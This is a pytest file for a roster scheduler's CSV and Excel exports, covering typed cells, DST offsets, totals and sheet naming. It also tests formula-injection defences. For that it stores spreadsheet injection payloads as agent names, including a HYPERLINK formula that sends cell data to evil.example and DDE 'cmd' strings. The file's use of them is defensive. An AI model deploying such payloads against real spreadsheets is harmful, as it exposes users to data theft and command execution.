"""CSV and XLSX exports: typed cells payroll can sum, the same figures as the CSV."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime

import pytest
from exports_builders import SITES, roster, scenario, shift, spec_example
from openpyxl import load_workbook

from scheduler.exports import (
    RosterCover,
    hours_csv,
    hours_xlsx,
    protect_csv,
    shifts_csv,
    worked_hours,
)
from scheduler.exports.spreadsheets import HOURS_COLUMNS, sheet_titles

HOURS_TITLES = [c.title for c in HOURS_COLUMNS]
NUMERIC_TITLES = (
    "Week",
    "Shifts",
    "Contract hours",
    "Worked hours",
    "Night hours",
    "Weekend hours",
    "Holiday hours",
)


@pytest.fixture
def example(spec_example_dir, spec_example_roster_dir):
    return spec_example(spec_example_dir, spec_example_roster_dir)


def test_hours_csv_has_one_line_per_agent_week_with_the_figures(example):
    sc, solved = example
    rows = worked_hours(sc, solved)

    lines = list(csv.DictReader(io.StringIO(hours_csv(rows))))

    assert len(lines) == len(rows)
    for line, r in zip(lines, rows, strict=True):
        assert line["agent_id"] == r.agent_id
        assert float(line["worked_hours"]) == r.worked_hours
        assert float(line["night_hours"]) == r.night_hours
        assert line["week_start"] == r.week_start.isoformat()


def test_shifts_csv_keeps_roster_instants_and_names(example, spec_example_roster_dir):
    sc, solved = example
    roster_lines = list(csv.DictReader((spec_example_roster_dir / "roster.csv").open()))

    lines = list(csv.DictReader(io.StringIO(shifts_csv(sc, solved))))

    key = ("agent_id", "site", "date", "shift", "start_utc", "end_utc", "start_local", "end_local")
    assert sorted(tuple(x[k] for k in key) for x in lines) == sorted(
        tuple(x[k] for k in key) for x in roster_lines
    )
    first = lines[0]
    assert first["agent_name"] == sc.agent(first["agent_id"]).name
    assert first["site_name"] == sc.site(first["site"]).name
    assert first["start_local"].endswith("+01:00")  # Dublin summer time, offset shown


def test_xlsx_has_a_typed_sheet_per_site_that_matches_the_csv(example):
    sc, solved = example
    workbook = load_workbook(io.BytesIO(hours_xlsx(sc, solved)))
    titles = sheet_titles(sc)
    csv_lines = list(csv.DictReader(io.StringIO(hours_csv(worked_hours(sc, solved)))))

    assert workbook.sheetnames == [
        "Roster",
        *[titles[s.id] for s in sc.sites],
        "Agent totals",
        "Shifts",
    ]
    assert workbook.sheetnames[1:3] == ["Toronto", "Dublin"]
    for site in sc.sites:
        sheet = workbook[titles[site.id]]
        header = [c.value for c in sheet[1]]
        assert header[:3] == ["Site", "Agent ID", "Agent"]
        assert sheet.freeze_panes == "A2"
        assert sheet.column_dimensions["C"].width > len("Agent")
        records = [
            dict(zip(header, values, strict=True))
            for values in sheet.iter_rows(2, values_only=True)
        ]
        expected = [line for line in csv_lines if line["site"] == site.id]
        assert len(records) == len(expected)
        for record, line in zip(records, expected, strict=True):
            for title in NUMERIC_TITLES:
                assert isinstance(record[title], int | float), (title, record[title])
            assert isinstance(record["Week start"], datetime)  # Excel dates read back so
            assert record["Week start"].date() == date.fromisoformat(line["week_start"])
            assert record["Worked hours"] == float(line["worked_hours"])
            assert record["Holiday hours"] == float(line["holiday_hours"])

    worked_column = HOURS_TITLES.index("Worked hours") + 2  # after the agent's E-mail
    site_totals = sum(
        value
        for s in sc.sites
        for (value,) in workbook[titles[s.id]].iter_rows(
            2, min_col=worked_column, max_col=worked_column, values_only=True
        )
    )
    assert site_totals == pytest.approx(sum(float(line["worked_hours"]) for line in csv_lines))


def test_xlsx_shift_sheet_keeps_wall_clock_and_offset(example):
    sc, solved = example
    sheet = load_workbook(io.BytesIO(hours_xlsx(sc, solved)))["Shifts"]
    header = [c.value for c in sheet[1]]
    records = [dict(zip(header, v, strict=True)) for v in sheet.iter_rows(2, values_only=True)]

    assert len(records) == len(solved.assignments)
    first = min(solved.assignments, key=lambda a: (a.agent_id, a.start_utc))
    record = records[0]
    assert record["Agent ID"] == first.agent_id
    assert record["Hours"] == (first.end_utc - first.start_utc).total_seconds() / 3600
    assert record["Start (UTC)"] == first.start_utc.replace(tzinfo=None)
    assert record["Start (local)"] == first.start_local.replace(tzinfo=None)
    assert record["Start offset"] == first.start_local.isoformat()[-6:]


def test_dst_night_shows_different_offsets_at_start_and_end():
    sc = scenario(date(2027, 10, 25), sites=(SITES["dub"],))
    night = shift(sc, "DUB", date(2027, 10, 30), "night")
    sheet = load_workbook(io.BytesIO(hours_xlsx(sc, roster([night]))))["Shifts"]
    header = [c.value for c in sheet[1]]
    (record,) = [dict(zip(header, v, strict=True)) for v in sheet.iter_rows(2, values_only=True)]

    assert (record["Start offset"], record["End offset"]) == ("+01:00", "+00:00")
    assert record["Hours"] == 9
    assert record["End (local)"] == datetime(2027, 10, 31, 7, 0)


def test_sheet_titles_are_legal_and_unique_in_excel():
    long_name = SITES["ber"].__class__(
        **{**SITES["ber"].__dict__, "name": "Berlin: Customer Care [Tier 2] / night team"}
    )
    twin = SITES["muc"].__class__(**{**SITES["muc"].__dict__, "name": "Shifts"})
    cover = SITES["dub"].__class__(**{**SITES["dub"].__dict__, "name": "Roster"})
    titles = sheet_titles(scenario(date(2027, 6, 7), sites=(long_name, twin, cover)))

    assert all(len(t) <= 31 and not set(t) & set("[]:*?/\\") for t in titles.values())
    assert titles["muc"] != "Shifts" and titles["dub"] != "Roster"
    assert len(set(titles.values())) == 3


HOSTILE_NAMES = {
    "DUB": '=HYPERLINK("https://evil.example/?leak="&A1,"Payslip")',
    "BER": "+1+cmd|' /C calc'!A0",
    "MUC": "-2+3",
    "TYO": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _hostile_scenario(names: dict[str, str]):
    sc = scenario(date(2027, 6, 7))
    agents = tuple(replace(a, name=names.get(a.id, a.name)) for a in sc.agents)
    return replace(sc, agents=agents)


def _early_shifts(sc):
    return roster([shift(sc, a.id, date(2027, 6, 7), "early") for a in sc.agents])


def test_xlsx_writes_names_that_look_like_formulas_as_text_and_reads_them_back():
    names = {**HOSTILE_NAMES, "TYO": "\tTab name"}
    sc = _hostile_scenario(names)
    data = hours_xlsx(sc, _early_shifts(sc))
    workbook = load_workbook(io.BytesIO(data))

    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(2):
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    by_agent = {
        row[0].value: row[1] for row in workbook["Shifts"].iter_rows(2) if row[0].value in names
    }
    assert {agent: cell.value for agent, cell in by_agent.items()} == names
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in by_agent.values())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)


@pytest.mark.parametrize("name", [*HOSTILE_NAMES.values(), "\tTab name", "\rCR name"])
def test_csv_exports_put_an_apostrophe_before_text_that_starts_a_formula(name):
    sc = _hostile_scenario({"DUB": name})
    solved = _early_shifts(sc)

    hours_lines = list(csv.DictReader(io.StringIO(hours_csv(worked_hours(sc, solved)))))
    shift_lines = list(csv.DictReader(io.StringIO(shifts_csv(sc, solved))))

    assert {line["agent_name"] for line in hours_lines if line["agent_id"] == "DUB"} == {"'" + name}
    assert {line["agent_name"] for line in shift_lines if line["agent_id"] == "DUB"} == {"'" + name}


def test_csv_exports_leave_ordinary_text_and_numbers_alone():
    sc = _hostile_scenario({"DUB": "Seán O'Neill-Byrne"})
    solved = _early_shifts(sc)

    (line,) = [
        x for x in csv.DictReader(io.StringIO(shifts_csv(sc, solved))) if x["agent_id"] == "DUB"
    ]

    assert line["agent_name"] == "Seán O'Neill-Byrne"
    assert line["hours"] == "8.0"
    assert line["start_local"].startswith("2027-06-07T07:00")


def _records(sheet) -> list[dict]:
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _with_people(sc):
    """The scenario with e-mails for every agent and an employee number for some."""
    agents = tuple(
        replace(
            agent,
            email=f"{agent.id.lower()}@example.com",
            employee_number=f"E-{index:05d}" if index % 2 == 0 else "",
        )
        for index, agent in enumerate(sc.agents)
    )
    return replace(sc, agents=agents)


def test_the_first_sheet_names_the_period_the_roster_and_its_publish_time(example):
    sc, solved = example
    published = datetime(2027, 6, 4, 16, 30, tzinfo=UTC)
    cover = RosterCover("June week", 42, "published", published, datetime(2027, 6, 5, tzinfo=UTC))

    workbook = load_workbook(io.BytesIO(hours_xlsx(sc, solved, cover)))

    assert workbook.sheetnames[0] == "Roster"
    facts = {label: value for label, value in workbook["Roster"].iter_rows(values_only=True)}
    assert facts["Period"] == "June week"
    assert facts["Roster"] == "#42"
    assert facts["State"] == "published"
    assert facts["Published (UTC)"] == datetime(2027, 6, 4, 16, 30)
    assert facts["Exported (UTC)"] == datetime(2027, 6, 5)
    assert facts["First date"] == datetime(2027, 6, 7)
    assert facts["Last date"] == datetime(2027, 6, 13)
    assert facts["Agents"] == len(sc.agents)
    assert facts["Shifts"] == len(solved.assignments)
    roster_hours = sum(_shift_hours(a) for a in solved.assignments)
    assert facts["Worked hours"] == pytest.approx(roster_hours)


def test_a_draft_says_it_is_not_published():
    sc = scenario(date(2027, 6, 7))
    cover = RosterCover("June", 7, "draft", None, datetime(2027, 6, 1, tzinfo=UTC))
    workbook = load_workbook(io.BytesIO(hours_xlsx(sc, roster([]), cover)))
    facts = dict(workbook["Roster"].iter_rows(values_only=True))
    assert (facts["State"], facts["Published (UTC)"]) == ("draft", "not published")


def test_agents_carry_e_mail_and_employee_number_on_every_hours_sheet(example):
    sc, solved = example
    sc = _with_people(sc)
    workbook = load_workbook(io.BytesIO(hours_xlsx(sc, solved)))
    titles = sheet_titles(sc)

    for title in [*(titles[s.id] for s in sc.sites), "Agent totals"]:
        header = [c.value for c in workbook[title][1]]
        assert header[:5] == ["Site", "Agent ID", "Agent", "E-mail", "Employee number"], title
        for record in _records(workbook[title]):
            agent = sc.agent(record["Agent ID"])
            assert record["E-mail"] == agent.email
            assert (record["Employee number"] or "") == agent.employee_number


def test_no_employee_number_column_when_agents_csv_has_none(example):
    sc, solved = example
    workbook = load_workbook(io.BytesIO(hours_xlsx(sc, solved)))
    for sheet in workbook.worksheets[1:-1]:
        header = [c.value for c in sheet[1]]
        assert "E-mail" in header and "Employee number" not in header, sheet.title


def test_agent_totals_are_the_sums_of_each_agents_weeks(example):
    sc, solved = example
    weeks = worked_hours(sc, solved)
    workbook = load_workbook(io.BytesIO(hours_xlsx(sc, solved)))

    totals = _records(workbook["Agent totals"])

    assert [t["Agent ID"] for t in totals] == list(dict.fromkeys(w.agent_id for w in weeks))
    for total in totals:
        mine = [w for w in weeks if w.agent_id == total["Agent ID"]]
        assert total["Shifts"] == sum(w.shifts for w in mine)
        assert total["Contract hours a week"] == sc.agent(total["Agent ID"]).hours_per_week
        for key in ("worked_hours", "night_hours", "weekend_hours", "holiday_hours"):
            title = key.replace("_", " ").capitalize()
            assert total[title] == pytest.approx(sum(getattr(w, key) for w in mine)), key
        assert total["Time-off days"] == sum(len(w.time_off) for w in mine)
    roster_hours = sum(_shift_hours(a) for a in solved.assignments)
    assert sum(t["Worked hours"] for t in totals) == pytest.approx(roster_hours)


def _shift_hours(shift) -> float:
    return (shift.end_utc - shift.start_utc).total_seconds() / 3600


def test_protect_csv_quotes_formula_cells_and_leaves_the_rest_byte_for_byte():
    safe = 'agent_id,reason\r\nA1,"rest, then ""days off"""\r\nA2,Seán O\'Neill-Byrne\r\n'
    hostile = 'agent_id,reason\n-2+3,"=HYPERLINK(""x"")"\n@SUM(A1),\tTab\n'

    assert protect_csv(safe, "\r\n") == safe
    rows = list(csv.reader(io.StringIO(protect_csv(hostile))))
    assert rows == [
        ["agent_id", "reason"],
        ["'-2+3", '\'=HYPERLINK("x")'],
        ["'@SUM(A1)", "'\tTab"],
    ]
